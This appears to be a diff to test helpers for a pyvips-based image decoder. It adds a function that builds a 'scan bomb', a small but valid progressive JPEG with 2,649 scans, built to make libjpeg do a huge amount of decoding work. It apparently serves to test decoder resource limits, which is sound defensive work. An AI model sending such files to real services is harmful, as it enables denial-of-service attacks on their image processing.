@@ -301,3 +301,72 @@ def decode(data: bytes) -> pyvips.Image:
 def pixel(data: bytes, x: int, y: int) -> list[float]:
     image = pyvips.Image.new_from_buffer(data, "")
     return list(image(x, y))
+
+
+# --- progressive-JPEG scan bomb --------------------------------------------------------------
+
+
+class _BitWriter:
+    """Entropy-coded bits, padded with 1s and byte-stuffed as T.81 F.1.2.3 asks."""
+
+    def __init__(self) -> None:
+        self.value = 0
+        self.count = 0
+
+    def put(self, value: int, length: int) -> None:
+        self.value = (self.value << length) | value
+        self.count += length
+
+    def data(self) -> bytes:
+        pad = -self.count % 8
+        value = (self.value << pad) | ((1 << pad) - 1)
+        return value.to_bytes((self.count + pad) // 8, "big").replace(b"\xff", b"\xff\x00")
+
+
+def _jpeg_segment(marker: int, payload: bytes) -> bytes:
+    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload
+
+
+def scan_bomb_jpeg(width: int = 4096, height: int = 4096, components: int = 3) -> bytes:
+    """A valid flat-grey progressive JPEG of 2,649 scans (3 components): per component one DC
+    scan, then each of the 63 AC coefficients on its own, first at point transform 13 and then
+    refined one bit at a time (1 + 63 x 14 scans). Every block is zero, so each AC scan is a
+    few end-of-band runs: the file is small and libjpeg still walks every block once per scan.
+    """
+    blocks = ((width + 7) // 8) * ((height + 7) // 8)
+    sof = struct.pack(">BHHB", 8, height, width, components)
+    sof += b"".join(struct.pack(">BBB", c + 1, 0x11, 0) for c in range(components))
+    dc_table = b"\x00" + bytes([1] + [0] * 15) + b"\x00"  # symbol 0 (difference 0) = "0"
+    # EOBr symbols r<<4 for r = 0..14, each a 4-bit code equal to r.
+    ac_table = b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15))
+    parts = [
+        b"\xff\xd8",
+        _jpeg_segment(0xDB, b"\x00" + b"\x01" * 64),
+        _jpeg_segment(0xC2, sof),
+        _jpeg_segment(0xC4, dc_table + ac_table),
+    ]
+    dc = _BitWriter()
+    dc.put(0, blocks)
+    runs = _BitWriter()
+    left = blocks
+    while left:  # EOBRUN = 2^r + r extra bits, at most 32767 blocks per symbol
+        run = min(left, 32767)
+        r = run.bit_length() - 1
+        runs.put(r, 4)
+        runs.put(run - (1 << r), r)
+        left -= run
+    dc_data, run_data = dc.data(), runs.data()
+
+    def sos(component: int, first: int, last: int, high: int, low: int) -> bytes:
+        return _jpeg_segment(
+            0xDA, struct.pack(">BBBBBB", 1, component + 1, 0, first, last, high << 4 | low)
+        )
+
+    for component in range(components):
+        parts += [sos(component, 0, 0, 0, 13), dc_data]
+        for k in range(1, 64):
+            parts += [sos(component, k, k, 0, 13), run_data]
+            for high in range(13, 0, -1):
+                parts += [sos(component, k, k, high, high - 1), run_data]
+    parts.append(b"\xff\xd9")
+    return b"".join(parts)
